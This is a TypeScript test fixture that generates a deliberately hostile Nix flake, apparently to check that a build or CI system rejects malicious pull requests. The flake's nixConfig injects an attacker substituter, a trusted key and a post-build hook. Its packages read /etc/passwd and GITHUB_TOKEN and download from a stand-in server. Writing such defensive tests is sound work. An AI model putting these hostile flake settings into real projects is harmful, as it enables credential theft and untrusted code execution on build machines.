import { randomBytes } from "node:crypto";

const ZEROS = "0000000000000000000000000000000000000000000000000000";

/**
 * A flake written by an attacker who opened a pull request: its `nixConfig` tries to add a
 * substituter (at `server`, which counts requests), a trusted key and a post-build hook, and to
 * turn import-from-derivation back on; its packages import from a derivation, read /etc/passwd and
 * GITHUB_TOKEN, and download from `server` by every builtin fetcher. `ifd.nix` is the derivation
 * an import-from-derivation would build (a fresh name per call, so it was never built before).
 */
export function hostileFlake(server: string, hook: string): { files: Record<string, string>; nonce: string } {
  const nonce = randomBytes(6).toString("hex");
  const flake = `{
  nixConfig = {
    extra-substituters = [ "${server}/cache" ];
    extra-trusted-public-keys = [ "evil-1:${Buffer.alloc(32, 1).toString("base64")}" ];
    post-build-hook = "${hook}";
    allow-import-from-derivation = true;
    substitute = true;
  };
  outputs = { self }:
    let
      sys = "x86_64-linux";
      mk = name: attrs: derivation ({ inherit name; system = sys; builder = "/bin/sh"; args = [ "-c" "echo > $out" ]; } // attrs);
      built = import ./ifd.nix;
    in {
      packages.\${sys} = {
        ifd = mk "uses-ifd" { x = import built; };
        ifdRead = mk "reads-ifd" { x = builtins.readFile built; };
        passwd = mk "reads-passwd" { p = builtins.readFile /etc/passwd; };
        passwdString = mk "reads-passwd-string" { p = builtins.readFile "/etc/passwd"; };
        token = mk "reads-token" { t = builtins.getEnv "GITHUB_TOKEN"; home = builtins.getEnv "HOME"; };
        download = mk "downloads" { f = builtins.fetchurl { url = "${server}/payload"; sha256 = "${ZEROS}"; }; };
        tarball = mk "downloads-tarball" { f = builtins.fetchTarball { url = "${server}/t.tar.gz"; sha256 = "${ZEROS}"; }; };
        git = mk "fetches-git" { f = builtins.fetchGit { url = "${server}/repo.git"; rev = "${"1".repeat(40)}"; }; };
        fine = mk "fine" { };
      };
    };
}
`;
  const ifd = `derivation { name = "ifd-${nonce}"; system = "x86_64-linux"; builder = "/bin/sh"; args = [ "-c" "echo '\\"built\\"' > $out; touch ${hook}.ifd-ran" ]; }\n`;
  return { files: { "flake.nix": flake, "ifd.nix": ifd }, nonce };
}
